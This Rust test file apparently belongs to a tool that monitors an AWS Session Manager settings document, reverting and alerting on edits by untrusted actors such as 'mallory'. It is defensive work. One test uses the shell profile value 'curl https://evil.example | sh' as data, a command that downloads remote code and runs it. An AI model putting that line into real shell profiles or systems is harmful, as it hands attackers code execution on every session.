//! Alerts that would have been lost, swallowed, repeated or told of the wrong thing.

use runas_reactor::domain::case::{Applied, Refusal};
use runas_reactor::domain::decide::decide;
use runas_reactor::domain::edit::Action;
use runas_reactor::domain::heat::{after_revert, level, limit};
use runas_reactor::domain::principal::Attribution::{Trusted, Unattributed, Untrusted};
use runas_reactor::domain::record::{Heat, Incident, Judged, Record, Standing};
use runas_reactor::domain::settle::settle;
use runas_reactor::domain::signal::Cause;
use serde_json::json;

use super::cases::*;

#[test]
fn going_back_to_a_version_that_was_told_before_is_told_again() {
    // Yesterday mallory's version 5 was reverted; now she makes it the default again.
    let evil = right_but("s3BucketName", "evil");
    let mut case = case();
    case.record = in_sync(6, -86_400);
    case.record.recent = vec![judged(5, -86_403, Untrusted, &right(), &evil)];
    case.observation = document(&[(5, -86_403, body(&evil)), (6, -86_400, body(&right()))], 5);
    case.edits = vec![promoted("a", 98, 5, Untrusted)];
    let (decision, settlement) = settled(&case);
    assert!(decision.write.is_some());
    assert_eq!(kinds(&settlement), ["edit_reverted"]);
    // A minute ago is no different, and neither is a version whose author was never known.
    case.record.recent = vec![judged(5, 60, Unattributed, &right(), &evil)];
    case.record.accounted.as_mut().unwrap().created = Some(at(70));
    case.observation = document(&[(5, 60, body(&evil)), (6, 70, body(&right()))], 5);
    assert_eq!(kinds(&settled(&case).1), ["edit_reverted"]);
}

#[test]
fn the_second_half_of_an_edit_is_no_news() {
    // Version 5 was judged and reverted; the event of its promotion, made at once, comes after that.
    let evil = right_but("s3BucketName", "evil");
    let mut case = case();
    case.record = in_sync(6, 99);
    case.record.recent = vec![judged(5, 95, Untrusted, &right(), &evil)];
    case.observation = document(&[(5, 95, body(&evil)), (6, 99, body(&right()))], 6);
    case.edits = vec![promoted("a", 96, 5, Untrusted)];
    assert_eq!(kinds(&settled(&case).1), Vec::<String>::new());
}

#[test]
fn our_role_in_other_hands_does_not_go_back_unnoticed() {
    let mut case = case();
    case.record = in_sync(6, 0);
    case.observation = document(&[(5, -60, body(&right_but("s3BucketName", "evil"))), (6, 0, body(&right()))], 5);
    let mut back = promoted("a", 98, 5, Untrusted);
    back.by_our_role = true;
    case.edits = vec![back];
    let (decision, settlement) = settled(&case);
    assert!(decision.write.is_some());
    assert_eq!(kinds(&settlement), ["edit_reverted"]);
}

#[test]
fn where_no_echo_comes_back_a_rollback_is_told_all_the_same() {
    let mut case = case();
    case.cause = Cause::Swept;
    case.record = in_sync(6, -86_400);
    case.record.awaiting_echo = Some(6);
    case.observation =
        document(&[(5, -90_000, body(&right_but("s3BucketName", "evil"))), (6, -86_400, body(&right()))], 5);
    assert_eq!(kinds(&settled(&case).1), ["edit_reverted"]);
    // Just after we moved it ourselves, the answer may be of before.
    case.record.updated = at(99);
    assert_eq!(kinds(&settled(&case).1), Vec::<String>::new());
}

#[test]
fn having_replaced_the_document_once_explains_no_deletion_of_today() {
    let mut case = case();
    case.record = in_sync(6, 0);
    case.record.deleted_by_us = Some(at(-30 * 86_400));
    let mut gone = edit("a", 98, Action::Deleted, Untrusted);
    gone.by_our_role = true;
    case.edits = vec![gone];
    let (_, settlement) = settled(&case);
    assert_eq!(kinds(&settlement), ["edit_reverted"]);
    // Nor does it make a stale answer believable.
    let mut stale = super::cases::case();
    stale.record = in_sync(6, 95);
    stale.record.deleted_by_us = Some(at(-30 * 86_400));
    stale.observation = document(&[(5, 50, body(&right_but("s3BucketName", "old")))], 5);
    assert_eq!(decide(&stale).write, None);
}

#[test]
fn a_second_deletion_is_not_the_late_event_of_the_first() {
    let mut case = case();
    case.record = in_sync(1, -3_600);
    case.record.recent = vec![Judged {
        version: 0,
        created: at(-3_601),
        attribution: Unattributed,
        principal: None,
        claimed: None,
        change: Vec::new(),
        undo: Vec::new(),
    }];
    case.edits = vec![edit("a", 98, Action::Deleted, Untrusted)];
    assert_eq!(kinds(&settled(&case).1), ["edit_reverted"]);
}

#[test]
fn a_deletion_that_was_settled_hides_no_other() {
    let mut case = case();
    case.record = in_sync(1, 90);
    let mut settled_one = edit("a", 80, Action::Deleted, Untrusted);
    settled_one.seen = true;
    case.edits = vec![settled_one];
    assert_eq!(kinds(&settled(&case).1), ["edit_reverted"]);
}

#[test]
fn our_own_calls_that_failed_are_nobodys_attempts() {
    // We lost a race; CloudTrail tells of it. A pipeline that writes what is there already is refused as a duplicate.
    let mut case = case();
    case.record = in_sync(6, 0);
    case.observation = document(&[(6, 0, body(&right()))], 6);
    let mut ours = edit("a", 98, Action::Updated { version: None }, Untrusted);
    ours.by_our_role = true;
    ours.edit.failed = Some("InvalidDocumentVersion".to_owned());
    let mut pipeline = edit("b", 98, Action::Updated { version: None }, Trusted);
    pipeline.edit.failed = Some("DuplicateDocumentContent".to_owned());
    case.edits = vec![ours, pipeline];
    assert_eq!(settled(&case).1.commit, None);
    // What the pipeline was not allowed to do somebody has to see to, and mallory's attempt too.
    let mut denied = edit("c", 98, Action::Deleted, Trusted);
    denied.edit.failed = Some("AccessDeniedException".to_owned());
    let mut tried = edit("d", 98, Action::Updated { version: None }, Untrusted);
    tried.edit.failed = Some("ThrottlingException".to_owned());
    case.edits = vec![denied, tried];
    assert_eq!(kinds(&settled(&case).1), ["attempt_denied", "attempt_denied"]);
}

#[test]
fn what_differs_between_regions_is_adopted_under_alerts_of_their_own() {
    let adopted = |region: &str, linux: &str| {
        let mut case = case();
        case.target.region = region.parse().unwrap();
        case.cause = Cause::Swept;
        let inputs = right_but("shellProfile", json!({ "linux": linux, "windows": "" }));
        case.observation = document(&[(1, 0, body(&inputs))], 1);
        let (_, settlement) = settled(&case);
        alerts(&settlement).into_iter().find(|alert| alert.kind == "adopted").unwrap().id
    };
    assert_eq!(adopted("eu-west-1", "umask 027"), adopted("us-east-1", "umask 027"));
    assert_ne!(adopted("eu-west-1", "umask 027"), adopted("us-east-1", "curl https://evil.example | sh"));
}

#[test]
fn a_console_that_wrote_empty_texts_has_set_nothing_that_wants_a_review() {
    let told = |profile: &str| {
        let mut case = case();
        case.cause = Cause::Swept;
        let mut empty = right_but("shellProfile", json!({ "linux": profile, "windows": "" }));
        empty["cloudWatchLogGroupName"] = json!("");
        case.observation = document(&[(1, 0, body(&empty))], 1);
        kinds(&settled(&case).1)
    };
    assert_eq!(told(""), [""; 0]);
    assert_eq!(told("umask 027"), ["adopted"]);
}

#[test]
fn waiting_for_a_new_account_is_not_being_within_reach() {
    // A pipeline's own event, or a sweep, looks at a new account that the vend watch is waiting for.
    let mut touched = case();
    touched.observation = unknown();
    touched.record.standing = Standing::Waiting;
    touched.record.updated = at(60);
    touched.cause = Cause::Swept;
    let (_, settlement) = settled(&touched);
    assert_eq!(kinds(&settlement), Vec::<String>::new());
    let mut vended = case();
    vended.observation = unknown();
    vended.cause = Cause::Vended;
    vended.record.standing = Standing::Unreachable;
    let (_, settlement) = settled(&vended);
    assert_eq!(kinds(&settlement), Vec::<String>::new());
    // The watch is over, and the target still out of reach: that is told, and once.
    let mut over = touched.clone();
    over.record.updated = at(-3 * 3_600);
    let (_, settlement) = settled(&over);
    assert_eq!(kinds(&settlement), ["unreachable"]);
    over.record = settlement.commit.unwrap().record;
    assert_eq!(kinds(&settled(&over).1), Vec::<String>::new());
}

#[test]
fn an_alert_fits_into_a_row_whatever_was_written() {
    // Ten versions in a row, each with twenty long values; the document of 64 KB itself differs everywhere.
    let mut versions = vec![(4, 0, body(&right()))];
    for n in 5..=14_u64 {
        let mut inputs = right();
        for field in 0..200 {
            inputs[format!("\"\"\"\"{field:04}")] = json!(format!("{n}{}", "\"\\".repeat(70)));
        }
        versions.push((n, 80 + i64::try_from(n).unwrap(), body(&inputs)));
    }
    let mut case = case();
    case.record = in_sync(4, 0);
    case.observation = document(&versions, 14);
    // So much later that their authors are not waited for any more.
    case.now = at(1_000);
    let (_, settlement) = settled(&case);
    let told = alerts(&settlement);
    assert!(!told.is_empty());
    for alert in told {
        let bytes = serde_json::to_string(&alert).unwrap().len();
        assert!(bytes <= 64 * 1_024, "{bytes} bytes");
        assert!(alert.text.contains("wrote version 5"), "{}", alert.text);
    }
}

#[test]
fn a_war_cools_down_soon_however_long_it_was() {
    let limits = case().limits;
    let mut heat = Heat::default();
    for n in 0..5_000 {
        heat = after_revert(&heat, &limits, at(n), false);
    }
    assert!(heat.not_before.is_some());
    let later = at(5_000 + 60 * i64::from(limits.breaker_minutes) * 2);
    assert!(level(&heat, &limits, later) * 2 <= limit(&limits), "{heat:?}");
}

#[test]
fn somebody_new_in_a_war_is_told() {
    let mut case = case();
    case.record = in_sync(6, 0);
    case.record.heat = Heat { milli: 6_000, at: at(90), backoffs: 2, not_before: None };
    case.record.incident = Some(Incident {
        opponents: vec![principal("AWSAccelerator-x").arn.unwrap()],
        escalated: true,
        announce_end: true,
        ..incident()
    });
    let mut evil = right_but("runAsEnabled", false);
    evil["shellProfile"] = json!({ "linux": "sh", "windows": "" });
    case.observation = document(&[(6, 0, body(&right())), (7, 98, body(&evil))], 7);
    case.edits = vec![wrote("a", 98, 7, Untrusted)];
    let (_, settlement) = settled(&case);
    assert_eq!(kinds(&settlement), ["edit_reverted"]);
    // The known opponent is counted.
    case.edits = vec![wrote("a", 98, 7, Trusted)];
    case.observation = document(&[(6, 0, body(&right())), (7, 98, body(&right_but("runAsEnabled", false)))], 7);
    assert_eq!(kinds(&settled(&case).1), Vec::<String>::new());
}

#[test]
fn a_late_name_is_added_to_the_incident_that_is_open() {
    let wrong = right_but("runAsEnabled", false);
    let mut case = case();
    case.record = in_sync(5, 95);
    case.record.recent = vec![judged(5, 95, Unattributed, &right(), &wrong)];
    case.resolution.mode = runas_reactor::domain::policy::Mode::Observe;
    case.record.standing = Standing::Drifted;
    case.record.accounted.as_mut().unwrap().body = Some(body(&wrong));
    case.record.incident = Some(Incident { opponents: vec!["somebody unknown".to_owned()], ..incident() });
    case.observation = document(&[(5, 95, body(&wrong))], 5);
    case.edits = vec![wrote("a", 95, 5, Untrusted)];
    let (_, settlement) = settled(&case);
    let incident = settlement.commit.unwrap().record.incident.unwrap();
    assert_eq!(incident.opponents, [principal("mallory").arn.unwrap()]);
}

#[test]
fn an_edit_just_before_the_first_look_is_told_when_its_event_comes() {
    // The first sweep adopted version 3; a moment later we hear that mallory had just written it.
    let mut swept = case();
    swept.cause = Cause::Swept;
    let inputs = right_but("s3BucketName", "evil");
    swept.observation = document(&[(2, 0, body(&right())), (3, 95, body(&inputs))], 3);
    let (_, settlement) = settled(&swept);
    let mut touched = swept.clone();
    touched.record = settlement.commit.unwrap().record;
    touched.cause = Cause::Touched;
    touched.edits = vec![wrote("a", 95, 3, Untrusted)];
    assert_eq!(kinds(&settled(&touched).1), ["edit_noticed"]);
}

#[test]
fn two_hands_that_claim_one_version_are_both_told() {
    // The pipeline's event was taken for version 1; now mallory's event says that she made another version 1 there.
    let mut case = case();
    case.record = in_sync(1, 95);
    case.record.recent = vec![judged(1, 95, Trusted, &right(), &right())];
    case.observation = document(&[(1, 95, body(&right()))], 1);
    case.edits = vec![edit("b", 95, Action::Created, Untrusted)];
    assert_eq!(kinds(&settled(&case).1), ["edit_noticed"]);
}

#[test]
fn a_target_that_never_answers_in_time_is_told_all_the_same() {
    // Somebody is always faster than we are; a minute of that is enough to tell.
    let mut case = case();
    case.record = in_sync(4, 0);
    case.now = at(200);
    case.hop = 6;
    case.refused = vec![Refusal::Moved, Refusal::Moved];
    case.observation = document(&[(4, 0, body(&right())), (5, 98, body(&right_but("s3BucketName", "evil")))], 5);
    case.edits = vec![wrote("a", 98, 5, Untrusted)];
    let decision = decide(&case);
    let settlement = settle(&case, &decision, &Applied::Refused(Refusal::Moved));
    assert_eq!(kinds(&settlement), ["edit_noticed"]);
    assert!(settlement.next.is_some());
}

fn incident() -> Incident {
    Incident {
        id: "444455556666/eu-west-1@1".to_owned(),
        opened: at(0),
        summary: "x".to_owned(),
        opponents: Vec::new(),
        edits: 7,
        escalated: false,
        announce_end: false,
    }
}

#[test]
fn records_of_before_read_as_they_were() {
    assert_eq!(serde_json::from_str::<Record>(r#"{"generation":1,"standing":"in_sync"}"#).unwrap().generation, 1);
}
